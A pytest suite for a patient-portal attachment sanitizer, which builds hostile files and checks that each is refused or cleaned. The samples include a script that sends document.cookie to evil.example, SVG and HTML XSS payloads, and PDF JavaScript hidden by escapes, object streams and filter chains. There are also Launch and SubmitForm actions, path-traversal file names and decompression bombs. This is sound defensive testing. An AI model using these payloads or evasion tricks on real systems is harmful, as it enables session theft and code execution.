"""The checks of a message attachment: only JPEG, PNG and PDF by their content, photos stripped to their pixels,
PDFs with active content refused, and every refusal a Norwegian message, never a 500. Every hostile file is built here.
"""

import base64
import io
import random
import struct
import time
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import ExifTags, Image, ImageFile, PngImagePlugin

from eportal.messaging.attachments import AttachmentRefused, CleanAttachment, check_count, clean_upload
from tests.hostile_files import CATALOG, DRAWING, PAGE, PAGES, pdf, plain_pdf, png_header_only, stream

MiB = 1024 * 1024
ALLOWED_TYPES_NB = "Vedlegg kan være bilder (JPG eller PNG) eller PDF."


def upload(name: str, data: bytes, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    # The browser's content type is the client's claim; every test gives one, and the checks must ignore it.
    return SimpleUploadedFile(name, data, content_type=content_type)


def refusal(name: str, data: bytes) -> str:
    """The Norwegian message a patient reads when the file is refused."""
    with translation.override("nb"), pytest.raises(AttachmentRefused) as refused:
        clean_upload(upload(name, data))
    assert refused.value.code == "attachment_refused"
    return str(refused.value)


def noise(size: tuple[int, int], mode: str = "RGB", seed: int = 0) -> Image.Image:
    """A photo-like image whose compressed data is large (a solid colour compresses to almost nothing)."""
    return Image.frombytes(mode, size, random.Random(seed).randbytes(size[0] * size[1] * len(mode)))


def encoded(image: Image.Image, image_format: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, image_format, **options)
    return out.getvalue()


def opened(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def pdf_with_object_stream(
    hidden: bytes, encode=zlib.compress, filters: bytes = b"/FlateDecode", parameters: bytes = b""
) -> bytes:
    """A PDF 1.5 whose object 5 lives compressed in an object stream (6), found through a cross-reference stream
    (7): what object 5 says appears nowhere in the file as plain text."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
    pairs = b"5 0 "
    dictionary = b"/Type /ObjStm /N 1 /First %d /Filter %s %s" % (len(pairs), filters, parameters)
    objects_stream = stream(dictionary, encode(pairs + hidden))
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in ((1, catalog), (2, PAGES), (3, PAGE), (4, stream(b"", DRAWING)), (6, objects_stream)):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[7] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 8):
        if number == 5:
            rows.append(struct.pack(">BIH", 2, 6, 0))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    xref = stream(b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode", zlib.compress(b"".join(rows)))
    out += b"7 0 obj\n" + xref + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[7]
    return bytes(out)


def png_sub_predicted(data: bytes, columns: int = 16) -> bytes:
    """Flate over PNG "Sub" prediction (each byte minus the one before it in its row), as /Predictor 11 says."""
    out = bytearray()
    for start in range(0, len(data), columns):
        previous = 0
        out.append(1)
        for byte in data[start : start + columns].ljust(columns, b" "):
            out.append((byte - previous) % 256)
            previous = byte
    return zlib.compress(bytes(out))


def ascii85(data: bytes) -> bytes:
    return base64.a85encode(data, wrapcol=72) + b"~>"


def damaged_after(data: bytes) -> bytes:
    compressor = zlib.compressobj()
    flushed = compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)
    return flushed + b"\x07" + bytes(32)  # then a block of a type that does not exist: zlib gives up there


SCRIPT_ACTION = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"


# Photos: only the pixels are kept


def test_a_photo_loses_its_gps_position_and_comment_but_keeps_its_size():
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Phone"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (59.0, 54.0, 36.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (10.0, 45.0, 0.0)
    original = encoded(noise((64, 48)), "JPEG", exif=exif, comment=b"Hjemme hos Kari")
    assert opened(original).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the photo did carry the position

    clean = clean_upload(upload("IMG_0001.JPG", original))

    assert clean.content_type == "image/jpeg"
    assert b"Exif" not in clean.data
    assert b"Hjemme hos Kari" not in clean.data
    stored = opened(clean.data)
    assert not stored.getexif()
    assert "comment" not in stored.info
    assert stored.size == (64, 48)


def test_a_photo_taken_sideways_stays_upright_once_its_exif_is_gone():
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # the camera was turned: show it rotated by 90 degrees
    clean = clean_upload(upload("sideways.jpg", encoded(noise((40, 20)), "JPEG", exif=exif)))
    stored = opened(clean.data)
    assert stored.size == (20, 40)
    assert not stored.getexif()


@pytest.mark.parametrize(
    "appended",
    [
        b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"payload.exe" + bytes(64),
        b"<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    ],
)
def test_bytes_appended_after_a_jpeg_are_gone(appended):
    original = encoded(noise((32, 32)), "JPEG") + appended
    clean = clean_upload(upload("polyglot.jpg", original))
    assert appended[:8] not in clean.data
    assert clean.data.endswith(b"\xff\xd9")
    assert opened(clean.data).size == (32, 32)


def test_a_png_keeps_its_pixels_but_loses_its_text_chunks():
    image = noise((16, 12), "RGBA")
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "Pasient: Kari Nordmann, 59.9N 10.7E")
    info.add_text("Author", "x" * 100, zip=True)
    original = encoded(image, "PNG", pnginfo=info)
    assert b"tEXt" in original and b"zTXt" in original

    clean = clean_upload(upload("skjermbilde.png", original))

    assert clean.content_type == "image/png"
    for chunk in (b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"Kari"):
        assert chunk not in clean.data
    stored = opened(clean.data)
    assert stored.text == {}
    assert stored.mode == "RGBA"
    assert stored.tobytes() == image.tobytes()


def test_a_png_with_a_transparent_background_keeps_it():
    image = Image.new("P", (8, 8), 0)
    image.putpalette([255, 255, 255, 200, 0, 0] + [0] * 762)
    image.putpixel((4, 4), 1)
    clean = clean_upload(upload("tegning.png", encoded(image, "PNG", transparency=0)))
    stored = opened(clean.data)
    assert stored.getpixel((0, 0))[3] == 0
    assert stored.getpixel((4, 4)) == (200, 0, 0, 255)


# Only JPEG, PNG and PDF, told by their content


@pytest.mark.parametrize(
    ("name", "data"),
    [
        (
            "photo.jpg",
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
            + bytes(48)
            + b"This program cannot be run in DOS mode",
        ),
        ("photo.jpg", b"\x7fELF\x02\x01\x01\x00" + bytes(56)),
        ("ferie.exe", b"MZ" + bytes(200)),
    ],
)
def test_an_executable_is_refused_whatever_its_name(name, data):
    assert refusal(name, data) == f"«{name}» er ikke et bilde eller en PDF. {ALLOWED_TYPES_NB}"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        (
            "image.png",
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b"<script>alert(document.domain)</script></svg>",
        ),
        ("image.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("x.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
        ("x.pdf", b"<html><script>alert(1)</script>\n%PDF-1.4\n%%EOF\n"),  # a PDF header, but not at the start
        ("x.pdf", b"\xef\xbb\xbf%PDF-1.4\n%%EOF\n"),
        ("arkiv.jpg", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(100)),
        ("bilde.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100)),
        ("tekst.pdf", b"Hei, jeg har vondt i halsen."),
    ],
)
def test_text_markup_archives_and_other_types_are_refused(name, data):
    assert ALLOWED_TYPES_NB in refusal(name, data)


@pytest.mark.parametrize("image_format", ["GIF", "WEBP", "BMP", "TIFF"])
def test_a_picture_type_outside_the_allow_list_is_refused(image_format):
    data = encoded(noise((8, 8)), image_format)
    assert refusal("bilde.jpg", data) == f"«bilde.jpg» er ikke et bilde eller en PDF. {ALLOWED_TYPES_NB}"


def test_the_type_comes_from_the_content_not_the_name():
    png = clean_upload(upload("x.jpg", encoded(noise((4, 4)), "PNG"), content_type="image/jpeg"))
    assert (png.name, png.content_type) == ("x.png", "image/png")
    jpeg = clean_upload(upload("scan.pdf", encoded(noise((4, 4)), "JPEG"), content_type="application/pdf"))
    assert (jpeg.name, jpeg.content_type) == ("scan.jpg", "image/jpeg")


# The name shown and downloaded


@pytest.mark.parametrize(
    ("uploaded", "shown"),
    [
        ("../../etc/passwd.jpg", "passwd.jpg"),
        ("..\\..\\Windows\\system32\\evil.jpg", "evil.jpg"),
        ("Blodprøve før.jpeg", "Blodprøve før.jpg"),
        ("photo\u202egpj.exe", "photogpj.jpg"),  # a right-to-left override would show «photoexe.jpg»
        ("<img src=x onerror=alert(1)>.jpg", "img srcx onerroralert1.jpg"),
        (".htaccess", "htaccess.jpg"),
        ("???.jpg", "vedlegg.jpg"),
        ("  .jpg", "vedlegg.jpg"),
        ("a" * 300 + ".jpg", "a" * 80 + ".jpg"),
    ],
)
def test_the_name_kept_is_harmless_and_ends_in_the_detected_type(uploaded, shown):
    attachment = upload("placeholder.jpg", encoded(noise((4, 4)), "JPEG"))
    attachment.name = uploaded  # as a client can send it; Django takes the base name of a / path itself
    clean = clean_upload(attachment)
    assert clean.name == shown
    assert "/" not in clean.name and "\\" not in clean.name


# Decompression bombs and broken pictures


@pytest.fixture(scope="module")
def png_bomb() -> bytes:
    """20000 x 20000 pixels (400 million, 1.2 GB as RGB) in a file of about 50 KB."""
    return encoded(Image.new("1", (20000, 20000)), "PNG", optimize=True)


@pytest.fixture
def no_decoding(monkeypatch):
    """Fail the test if any picture is decoded: a bomb must be refused from its header alone."""

    def load(self):
        raise AssertionError("the picture was decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", load)


def test_a_decompression_bomb_is_refused_quickly_without_decoding(png_bomb, no_decoding):
    assert len(png_bomb) < 100_000
    started = time.monotonic()
    message = refusal("bomb.png", png_bomb)
    assert time.monotonic() - started < 1
    assert message == "Bildet «bomb.png» har for mange piksler. Bilder kan ha høyst 40 megapiksler."


@pytest.mark.parametrize(
    ("width", "height"),
    [
        (8000, 6000),  # 48 million: over the portal's limit, under Pillow's own
        (10000, 10000),  # 100 million: Pillow warns (DecompressionBombWarning)
        (30000, 30000),  # 900 million: Pillow refuses (DecompressionBombError)
    ],
)
def test_a_picture_over_the_pixel_limit_is_refused_from_its_header(width, height, no_decoding):
    assert "har for mange piksler" in refusal("stor.png", png_header_only(width, height))


@pytest.mark.parametrize(("width", "height"), [(10000, 10000), (30000, 30000)])
def test_pillows_own_limit_holds_when_the_setting_is_higher(width, height, no_decoding):
    with override_settings(EPORTAL_ATTACHMENT_MAX_PIXELS=2_000_000_000):
        assert "har for mange piksler" in refusal("stor.png", png_header_only(width, height))


@override_settings(EPORTAL_ATTACHMENT_MAX_PIXELS=1_000_000)
def test_the_pixel_limit_is_the_setting():
    assert "høyst 1 megapiksler" in refusal("stor.png", encoded(Image.new("L", (1001, 1000)), "PNG"))
    assert clean_upload(upload("akkurat.png", encoded(Image.new("L", (1000, 1000)), "PNG"))).content_type == "image/png"


def test_a_truncated_jpeg_is_refused():
    whole = encoded(noise((64, 64)), "JPEG")
    assert refusal("halv.jpg", whole[: len(whole) // 2]) == (
        "Bildet «halv.jpg» kunne ikke leses. Det kan være skadet; prøv å lagre det på nytt som JPG eller PNG."
    )


def test_a_png_with_broken_pixel_data_is_refused():
    whole = encoded(noise((32, 32)), "PNG")
    start = whole.index(b"IDAT") + 20
    broken = whole[:start] + bytes(64) + whole[start + 64 :]
    assert "kunne ikke leses" in refusal("ødelagt.png", broken)


def test_a_jpeg_header_with_nothing_after_it_is_refused():
    assert "kunne ikke leses" in refusal("tom.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00")


# PDF


def test_a_plain_pdf_is_stored_unchanged():
    original = plain_pdf()
    clean = clean_upload(upload("Henvisning.pdf", original, content_type="application/octet-stream"))
    assert clean == CleanAttachment(name="Henvisning.pdf", content_type="application/pdf", data=original)


def test_a_pdf_with_compressed_and_ascii85_content_is_accepted():
    """As ReportLab writes them (ASCII85 over Flate), and with an object stream holding harmless objects."""
    reportlab_like = pdf(
        CATALOG, PAGES, PAGE, stream(b"/Filter [/ASCII85Decode /FlateDecode]", ascii85(zlib.compress(DRAWING)))
    )
    assert clean_upload(upload("rapport.pdf", reportlab_like)).data == reportlab_like
    harmless = pdf_with_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    assert clean_upload(upload("modern.pdf", harmless)).data == harmless


def test_image_data_in_a_pdf_is_not_mistaken_for_a_script():
    pixels = bytes(range(256)) * 8 + b"/JS (x) /JavaScript /Launch " + bytes(range(256)) * 8  # by chance, say
    image = stream(
        b"/Type /XObject /Subtype /Image /Width 64 /Height 65 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
        zlib.compress(pixels),
    )
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /XObject << /Im0 5 0 R >> >> >>"
    scan = pdf(CATALOG, PAGES, page, stream(b"", b"q 64 0 0 65 0 0 cm /Im0 Do Q\n"), image)
    assert clean_upload(upload("skann.pdf", scan)).data == scan


ACTIVE_CONTENT_NB = (
    "PDF-en «{name}» inneholder skript, innebygde filer eller aktive skjemaer og kan ikke sendes. "
    "Skriv den ut til en ny PDF («Skriv ut til PDF»), eller send et bilde av den."
)


def test_a_pdf_with_javascript_is_refused():
    hostile = pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", PAGES, PAGE, stream(b"", DRAWING), SCRIPT_ACTION
    )
    assert refusal("brev.pdf", hostile) == ACTIVE_CONTENT_NB.format(name="brev.pdf")


def test_a_pdf_hiding_javascript_behind_name_escapes_is_refused():
    action = b"<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>"
    hostile = pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", PAGES, PAGE, stream(b"", DRAWING), action)
    assert b"JavaScript" not in hostile and b"/JS" not in hostile
    assert refusal("brev.pdf", hostile) == ACTIVE_CONTENT_NB.format(name="brev.pdf")


@pytest.mark.parametrize(
    ("encode", "filters"),
    [
        (zlib.compress, b"/FlateDecode"),
        (lambda data: ascii85(zlib.compress(data)), b"[/ASCII85Decode /FlateDecode]"),
        (lambda data: zlib.compress(data).hex().encode() + b">", b"[/ASCIIHexDecode /FlateDecode]"),
        (lambda data: zlib.compress(zlib.compress(data)), b"[/FlateDecode /FlateDecode]"),
        (lambda data: zlib.compress(data)[:-4] + b"\0\0\0\0", b"/FlateDecode"),  # a wrong checksum
        (damaged_after, b"/FlateDecode"),  # readers such as MuPDF show what comes before the damage
    ],
)
def test_a_pdf_hiding_javascript_in_a_compressed_object_stream_is_refused(encode, filters):
    hostile = pdf_with_object_stream(SCRIPT_ACTION, encode, filters)
    assert b"JavaScript" not in hostile and b"/JS" not in hostile
    assert refusal("brev.pdf", hostile) == ACTIVE_CONTENT_NB.format(name="brev.pdf")


@pytest.mark.parametrize(
    "dictionary",
    [
        b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        stream(b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", b"MZ" + bytes(64)),
        b"<< /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> >>",
        b"<< /Fields [] /XFA 6 0 R >>",
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",
        b"<< /S /SubmitForm /F (https://evil.example/collect) >>",
        b"<< /S /ImportData /F (data.fdf) >>",
        b"<< /S /GoToR /F (resept.pdf) /D [0 /Fit] >>",
    ],
)
def test_a_pdf_with_other_active_content_is_refused(dictionary):
    hostile = pdf(CATALOG, PAGES, PAGE, stream(b"", DRAWING), dictionary, b"(placeholder)")
    assert "inneholder skript" in refusal("vedlegg.pdf", hostile)


def test_an_encrypted_pdf_is_refused():
    encrypt = b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -44 >>" % (b"ab" * 32, b"cd" * 32)
    hostile = pdf(CATALOG, PAGES, PAGE, stream(b"", DRAWING), encrypt, trailer=b"/Encrypt 5 0 R /ID [<01> <01>] ")
    assert refusal("lab.pdf", hostile) == (
        "PDF-en «lab.pdf» er passordbeskyttet eller kryptert, så den kan ikke kontrolleres. "
        "Send en PDF uten beskyttelse."
    )


@override_settings(EPORTAL_ATTACHMENT_MAX_BYTES=MiB)
def test_a_compression_bomb_inside_a_pdf_is_refused_not_expanded():
    bomb = zlib.compress(bytes(64 * MiB), 9)  # 64 KB that inflate to 64 MB
    hostile = pdf(CATALOG, PAGES, PAGE, stream(b"/Filter /FlateDecode", bomb))
    started = time.monotonic()
    message = refusal("bombe.pdf", hostile)
    assert time.monotonic() - started < 2
    assert message == (
        "PDF-en «bombe.pdf» er laget på en måte som ikke kan kontrolleres. "
        "Skriv den ut til en ny PDF («Skriv ut til PDF»), eller send et bilde av den."
    )


def test_a_pdf_with_a_filter_the_check_cannot_decode_is_refused():
    lzw = pdf(CATALOG, PAGES, PAGE, stream(b"/Filter /LZWDecode", b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01"))
    assert "ikke kan kontrolleres" in refusal("gammel.pdf", lzw)


def test_a_pdf_without_its_end_is_refused():
    whole = plain_pdf()
    assert refusal("avkortet.pdf", whole[: whole.index(b"xref")]) == (
        "PDF-en «avkortet.pdf» kunne ikke leses. Den kan være skadet eller ufullstendig."
    )


# Size and count


@override_settings(EPORTAL_ATTACHMENT_MAX_BYTES=2 * MiB)
def test_a_file_over_the_size_limit_is_refused_naming_the_limit():
    big = encoded(noise((8, 8)), "PNG") + bytes(2 * MiB)
    assert refusal("stort.png", big) == "«stort.png» er større enn 2 MB. Vedlegg kan være på høyst 2 MB."


@override_settings(EPORTAL_ATTACHMENT_MAX_BYTES=2 * MiB)
def test_the_size_the_client_declares_is_not_trusted():
    attachment = upload("stort.pdf", plain_pdf() + b"%" + b"x" * (2 * MiB))
    attachment.size = 1000  # a client can claim anything
    with translation.override("nb"), pytest.raises(AttachmentRefused, match="høyst 2 MB"):
        clean_upload(attachment)


class CountingFile(io.BytesIO):
    def __init__(self, data: bytes):
        super().__init__(data)
        self.bytes_read = 0

    def read(self, size=-1):
        chunk = super().read(size)
        self.bytes_read += len(chunk)
        return chunk


@override_settings(EPORTAL_ATTACHMENT_MAX_BYTES=MiB)
def test_a_huge_upload_is_not_read_past_the_limit():
    attachment = upload("film.pdf", b"")
    attachment.file = CountingFile(b"%PDF-1.4\n" + bytes(50 * MiB))
    attachment.size = None  # a size the client did not declare
    with pytest.raises(AttachmentRefused):
        clean_upload(attachment)
    assert attachment.file.bytes_read <= MiB + attachment.DEFAULT_CHUNK_SIZE


@override_settings(EPORTAL_ATTACHMENT_MAX_BYTES=64 * 1024)
def test_a_file_of_exactly_the_limit_is_accepted():
    def padded(length: int) -> bytes:  # a comment line after the header, offsets still right
        return pdf(CATALOG, PAGES, PAGE, stream(b"", DRAWING), version=b"1.4\n%" + b"x" * length)

    length = 64 * 1024 - len(padded(0))
    length -= len(padded(length)) - 64 * 1024  # the offsets in the file grew by a digit or two
    exact = padded(length)
    assert len(exact) == 64 * 1024
    assert clean_upload(upload("akkurat.pdf", exact)).data == exact


def test_an_empty_file_is_refused():
    assert refusal("tom.jpg", b"") == "Filen «tom.jpg» er tom."


def test_the_name_in_a_message_is_the_patients_own_cut_to_80_characters():
    name = "Veldig langt navn " * 10 + ".exe"
    assert refusal(name, b"MZ" + bytes(64)).startswith(f"«{name[:80]}» er ikke")


def test_up_to_the_maximum_number_of_attachments_is_fine():
    check_count([object()] * 3)
    check_count([])


def test_one_attachment_too_many_is_refused():
    with translation.override("nb"), pytest.raises(AttachmentRefused) as refused:
        check_count([object()] * 4)
    assert str(refused.value) == "Du kan legge ved høyst 3 filer i en melding."


@pytest.mark.parametrize(
    ("limit", "message"),
    [(1, "Du kan legge ved høyst 1 fil i en melding."), (0, "Meldinger kan ikke ha vedlegg.")],
)
def test_the_count_limit_is_the_setting(limit, message):
    with override_settings(EPORTAL_ATTACHMENT_MAX_COUNT=limit):
        check_count([object()] * limit)
        with translation.override("nb"), pytest.raises(AttachmentRefused, match=message):
            check_count([object()] * (limit + 1))


# Whatever arrives, the answer is a clean attachment or a refusal, never a 500

PREFIXES = [b"", b"\xff\xd8\xff", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", b"\x89PNG\r\n\x1a\n", b"%PDF-1.7\n"]


def outcome(data: bytes) -> None:
    try:
        clean = clean_upload(upload("fuzz.bin", data))
    except AttachmentRefused:
        return
    assert clean.content_type in {"image/jpeg", "image/png", "application/pdf"}


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    prefix=st.sampled_from(PREFIXES),
    body=st.binary(max_size=4096),
    suffix=st.sampled_from([b"", b"\n%%EOF\n", b"\xff\xd9"]),
)
def test_random_bytes_are_refused_or_cleaned(prefix, body, suffix):
    outcome(prefix + body + suffix)


turned = Image.Exif()
turned[ExifTags.Base.Orientation] = 8
SEEDS = {
    "jpeg": encoded(noise((24, 16)), "JPEG", exif=turned, comment=b"c"),
    "png": encoded(noise((12, 9), "RGBA"), "PNG"),
    "palette png": encoded(noise((12, 9), "L").convert("P"), "PNG", transparency=3),
    "pdf": pdf_with_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
}


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    seed=st.sampled_from(sorted(SEEDS)),
    changes=st.lists(st.tuples(st.integers(min_value=0), st.integers(min_value=0, max_value=255)), max_size=8),
    cut=st.integers(min_value=0),
)
def test_damaged_real_files_are_refused_or_cleaned(seed, changes, cut):
    data = bytearray(SEEDS[seed])
    for position, value in changes:
        data[position % len(data)] = value
    outcome(bytes(data[: len(data) - cut % 64]))


@pytest.mark.parametrize(
    ("encode", "filters", "parameters"),
    [
        (lambda data: zlib.compress(data.hex().encode() + b">"), b"[/FlateDecode /ASCIIHexDecode]", b""),
        (lambda data: zlib.compress(ascii85(data)), b"[/FlateDecode /ASCII85Decode]", b""),
        (png_sub_predicted, b"/FlateDecode", b"/DecodeParms << /Predictor 11 /Columns 16 >>"),
    ],
    ids=["flate-then-hex", "flate-then-ascii85", "png-predictor"],
)
def test_javascript_behind_filter_chains_and_predictors_is_refused(encode, filters, parameters):
    """A PDF reader undoes every filter in order and the predictor; so does the check (found in review: the byte
    scanner alone let these through, and pypdf resolved their /OpenAction to the script)."""
    hostile = pdf_with_object_stream(SCRIPT_ACTION, encode, filters, parameters)
    assert b"JavaScript" not in hostile
    assert refusal("brev.pdf", hostile) == ACTIVE_CONTENT_NB.format(name="brev.pdf")


def test_a_harmless_object_stream_behind_a_predictor_is_accepted():
    harmless = pdf_with_object_stream(
        b"<< /Type /Annot /Subtype /Text >>", png_sub_predicted, b"/FlateDecode",
        b"/DecodeParms << /Predictor 11 /Columns 16 >>",
    )  # fmt: skip
    assert clean_upload(upload("skjema.pdf", harmless)).data == harmless
